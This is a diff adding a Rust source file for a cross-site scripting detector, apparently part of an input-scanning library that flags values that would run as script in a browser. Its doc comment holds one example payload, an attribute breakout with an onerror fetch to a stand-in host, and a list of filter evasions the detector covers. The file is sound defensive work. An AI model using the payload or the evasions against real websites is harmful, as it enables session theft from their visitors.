@@ -1,0 +1,243 @@
+//! Cross-site scripting.
+//!
+//! # What it detects
+//! Values that would run as script in a browser wherever a page puts them: between tags, in an attribute (quoted or
+//! not), in a URL, in a style, in a string of a script, or in a client-side template. Markup that cannot run script, as
+//! rich-text editors send it, is not reported.
+//!
+//! # Why it matters
+//! Script in a page acts with the rights of its visitor: it reads sessions, changes what is shown and sends requests.
+//!
+//! # Example
+//! `"><img src=x onerror=fetch('//evil.example')>`: the quote and `>` leave an attribute, and the image that cannot load runs
+//! its error handler.
+//!
+//! # Known false positives
+//! Posts that show working script outside code fences and inline code; administration forms that take tag-manager or
+//! advertising snippets.
+//!
+//! # Evasions covered
+//! Case, slashes for spaces, missing quotes, entities in attributes, tabs and line ends in schemes, nested and unclosed
+//! tags, CDATA and conditional comments, mutation through attributes, split and escaped names in script, tagged
+//! templates, scripts of brackets only, padding before and after.
+//!
+//! # References
+//! WHATWG HTML section 13.2; ECMA-262 section 12; OWASP XSS Filter Evasion Cheat Sheet; CWE-79.
+
+use std::{cell::OnceCell, ops::Range};
+
+use crate::{
+    Class, Decoder, Detector, Fact, FactKind, Input, Scratch, Signal, Sink,
+    bytes::{contains_ignore_case, find_ignore_case},
+    html::{
+        shown::CodeSpans,
+        sinks::{Hit, walk},
+        tokenizer::Start,
+        url::{Follow, follow},
+    },
+    script::{Effect, Escape, effect, escape},
+};
+
+pub(super) static DETECTOR: Detector =
+    Detector { signal: Signal::Xss, name: "xss", version: 1, gate, run };
+
+static LEAVES_ATTRIBUTE: Fact = Fact::new("closes an attribute and adds another", FactKind::Breakout, 60);
+static IN_TAG: Fact = Fact::new("would be an attribute that runs inside a tag", FactKind::Structure, 100);
+static LEAVES_STRING: Fact = Fact::new("closes a script's string and goes on with code", FactKind::Breakout, 105);
+static WHOLE_SCRIPT: Fact = Fact::new("is a script with an effect as a whole", FactKind::Structure, 105);
+static BEGINS_AS_SCRIPT: Fact = Fact::new("begins as a script with an effect", FactKind::Structure, 60);
+static SCRIPT_URL: Fact = Fact::new("is a script URL", FactKind::Effect, 105);
+static SCRIPT_URL_INSIDE: Fact = Fact::new("a script URL where a link or a style would follow it", FactKind::Effect, 100);
+static SCRIPT_URL_SOMEWHERE: Fact = Fact::new("a script URL with an effect", FactKind::Structure, 100);
+static DOCUMENT_URL: Fact = Fact::new("is a URL that carries a document", FactKind::Effect, 100);
+static IDLE_URL: Fact = Fact::new("a script URL without effect", FactKind::Structure, 30);
+
+static SHOWN: Fact = Fact::new("markup that would run", FactKind::Structure, 100);
+
+static SHOWN_AS_CODE: Fact = Fact::new("stands in a code block", FactKind::Doubt, 70);
+static ENTITIES_IN_MARKUP: Fact = Fact::new("was written with entities inside real markup", FactKind::Doubt, 70);
+static PROSE: Fact = Fact::new("stands in prose", FactKind::Doubt, 50);
+static LONG_CODE: Fact = Fact::new("stands in many lines of code", FactKind::Doubt, 60);
+
+fn gate(input: &Input<'_>) -> bool {
+    let classes = input.classes;
+    classes.any(&[Class::Angle, Class::Paren, Class::Backtick])
+        || classes.has(Class::Equals) && classes.any(&[Class::SingleQuote, Class::DoubleQuote])
+}
+
+fn run(input: &Input<'_>, _: &mut Scratch, sink: &mut Sink<'_>) {
+    let bytes = input.bytes;
+    let surroundings = Surroundings { input, code: OnceCell::new() };
+    if input.classes.has(Class::Angle) {
+        walk(bytes, 0, Start::Data, &mut |hit| surroundings.report(sink, &hit, &[]));
+    }
+    if has_attribute(bytes) {
+        for quote in [b'"', b'\''] {
+            let mut at = 0;
+            while let Some(found) = memchr::memchr(quote, bytes.get(at..).unwrap_or_default()) {
+                at = walk(bytes, at + found + 1, Start::Tag, &mut |hit| {
+                    if in_attribute(bytes, &hit) {
+                        surroundings.report(sink, &hit, &[&LEAVES_ATTRIBUTE]);
+                    }
+                });
+            }
+        }
+        let first_tag = memchr::memchr(b'<', bytes).unwrap_or(bytes.len());
+        for start in [Start::UnquotedValue, Start::Tag] {
+            walk(bytes, 0, start, &mut |hit| {
+                if hit.span.end <= first_tag && in_attribute(bytes, &hit) {
+                    surroundings.soft(sink, hit.span, &[&IN_TAG]);
+                }
+            });
+        }
+    }
+    urls(&surroundings, sink);
+    if input.classes.any(&[Class::Paren, Class::Backtick, Class::Equals, Class::Bracket, Class::Dot]) {
+        match escape(bytes) {
+            Some(Escape::String(span)) => surroundings.soft(sink, span, &[&LEAVES_STRING]),
+            Some(_) if begins_with_tag(bytes) => {}
+            Some(Escape::Whole(span)) => surroundings.soft(sink, span, &[&WHOLE_SCRIPT]),
+            Some(Escape::Begins(span)) => surroundings.soft(sink, span, &[&BEGINS_AS_SCRIPT]),
+            None => {}
+        }
+    }
+}
+
+/// A value and what is known of the text around a hit.
+struct Surroundings<'a> {
+    input: &'a Input<'a>,
+    code: OnceCell<CodeSpans>,
+}
+
+impl Surroundings<'_> {
+    fn is_shown(&self, at: usize) -> bool {
+        let shape = self.input.shape();
+        let code = self.code.get_or_init(|| CodeSpans::of(self.input.bytes, shape.is_prose() || shape.lines > 3));
+        code.shows(self.input.bytes, at)
+    }
+
+    /// Reports markup that runs. Where it is only shown, it counts as structure, which doubts may lower.
+    fn report(&self, sink: &mut Sink<'_>, hit: &Hit, more: &[&'static Fact]) {
+        let entities = self.input.chain.contains(Decoder::HtmlEntity);
+        if self.is_shown(hit.span.start) {
+            sink.report(hit.span.clone(), &[&SHOWN, &SHOWN_AS_CODE]);
+        } else if entities && (hit.shown || has_rich_text(self.input.bytes)) {
+            sink.report(hit.span.clone(), &[&SHOWN, &ENTITIES_IN_MARKUP]);
+        } else {
+            let mut facts = [hit.fact; 4];
+            let mut count = 1;
+            for &fact in more.iter().take(2) {
+                facts[count] = fact;
+                count += 1;
+            }
+            if !matches!(hit.fact.kind, FactKind::Effect) && self.input.shape().is_prose() {
+                facts[count] = &PROSE;
+                count += 1;
+            }
+            sink.report(hit.span.clone(), facts.get(..count).unwrap_or_default());
+        }
+    }
+
+    /// Reports what parses without leaving a context, with all that speaks against it.
+    fn soft(&self, sink: &mut Sink<'_>, span: Range<usize>, found: &[&'static Fact]) {
+        let shape = self.input.shape();
+        let mut facts = [&PROSE; 6];
+        let mut count = 0;
+        let mut add = |fact: &'static Fact| {
+            if let Some(slot) = facts.get_mut(count) {
+                *slot = fact;
+                count += 1;
+            }
+        };
+        for &fact in found {
+            add(fact);
+        }
+        if self.is_shown(span.start) {
+            add(&SHOWN_AS_CODE);
+        }
+        // What reads as code from end to end is no prose, however many short words it has.
+        if shape.is_prose() && !found.contains(&&WHOLE_SCRIPT) {
+            add(&PROSE);
+        }
+        if shape.lines >= 4 {
+            add(&LONG_CODE);
+        }
+        sink.report(span, facts.get(..count).unwrap_or_default());
+    }
+}
+
+fn begins_with_tag(bytes: &[u8]) -> bool {
+    matches!(bytes.trim_ascii_start(), [b'<', next, ..] if next.is_ascii_alphabetic() || matches!(next, b'!' | b'?'))
+}
+
+/// Whether the text holds the closing tags that rich-text editors write.
+fn has_rich_text(bytes: &[u8]) -> bool {
+    [&b"</p>"[..], b"</li>", b"</code>", b"</pre>", b"<br", b"</td>", b"</h", b"</blockquote>"]
+        .iter()
+        .any(|tag| contains_ignore_case(bytes, tag))
+}
+
+/// Whether an attribute stands in the value that could run: an `on` name, a style, or a script URL behind a name.
+fn has_attribute(bytes: &[u8]) -> bool {
+    memchr::memchr_iter(b'=', bytes).any(|at| {
+        let before = bytes.get(at.saturating_sub(48)..at).unwrap_or_default().trim_ascii_end();
+        let start = before.iter().rposition(|b| !b.is_ascii_alphabetic()).map_or(0, |end| end + 1);
+        let name = before.get(start..).unwrap_or_default();
+        let on = name.len() > 3 && name[..2].eq_ignore_ascii_case(b"on");
+        on || [&b"style"[..], b"href", b"src", b"action", b"formaction", b"srcdoc", b"data"]
+            .iter()
+            .any(|known| name.eq_ignore_ascii_case(known))
+    })
+}
+
+/// Whether an attribute outside a tag has a value that does something, rather than words that look like one.
+fn in_attribute(bytes: &[u8], hit: &Hit) -> bool {
+    let value = bytes.get(hit.value.clone()).unwrap_or_default();
+    matches!(hit.fact.kind, FactKind::Effect) && !value.is_empty() && {
+        let scheme = match follow(value) {
+            Follow::Script => true,
+            Follow::Document => !contains_ignore_case(value.get(..value.len().min(16)).unwrap_or_default(), b"image/"),
+            _ => false,
+        };
+        scheme || effect(value, 0).effect > Effect::None || memchr::memchr2(b'(', b'<', value).is_some()
+    }
+}
+
+fn urls(surroundings: &Surroundings<'_>, sink: &mut Sink<'_>) {
+    let bytes = surroundings.input.bytes;
+    if memchr::memchr2(b':', b'&', bytes).is_none() {
+        return;
+    }
+    match follow(bytes) {
+        Follow::Script => sink.report(0..bytes.len(), &[&SCRIPT_URL]),
+        Follow::Document => sink.report(0..bytes.len(), &[&DOCUMENT_URL]),
+        Follow::Idle => sink.report(0..bytes.len(), &[&IDLE_URL]),
+        _ => {}
+    }
+    let mut at = 1;
+    // Each search goes on behind the last find; what follows a scheme is read once, because finds do not overlap.
+    while let Some(found) = find_ignore_case(bytes.get(at..).unwrap_or_default(), b"script:") {
+        let end = at + found + 7;
+        let rest = bytes.get(end..).unwrap_or_default();
+        let start = scheme_start(bytes, at + found);
+        let lead = bytes.get(..start).unwrap_or_default().trim_ascii_end();
+        let word = bytes.get(start..end).unwrap_or_default();
+        if follow(word) >= Follow::Idle && follow(bytes.get(start..).unwrap_or_default()) == Follow::Script {
+            let window = bytes.get(..bytes.len().min(end + 512)).unwrap_or_default();
+            let strong = effect(window, end).effect;
+            let inside = lead.ends_with(b"](") || lead.ends_with(b"](<") || lead.ends_with(b"url(") || lead.ends_with(b"]:");
+            if inside {
+                surroundings.report(sink, &Hit { fact: &SCRIPT_URL_INSIDE, span: start..end, value: 0..0, shown: false }, &[]);
+            } else if strong > Effect::None && !rest.is_empty() {
+                surroundings.soft(sink, start..end, &[&SCRIPT_URL_SOMEWHERE]);
+            }
+        }
+        at = end;
+    }
+}
+
+/// Where the scheme that ends in `script:` begins.
+fn scheme_start(bytes: &[u8], script: usize) -> usize {
+    let before = bytes.get(script.saturating_sub(8)..script).unwrap_or_default();
+    script - before.iter().rev().take_while(|b| b.is_ascii_alphabetic()).count()
+}
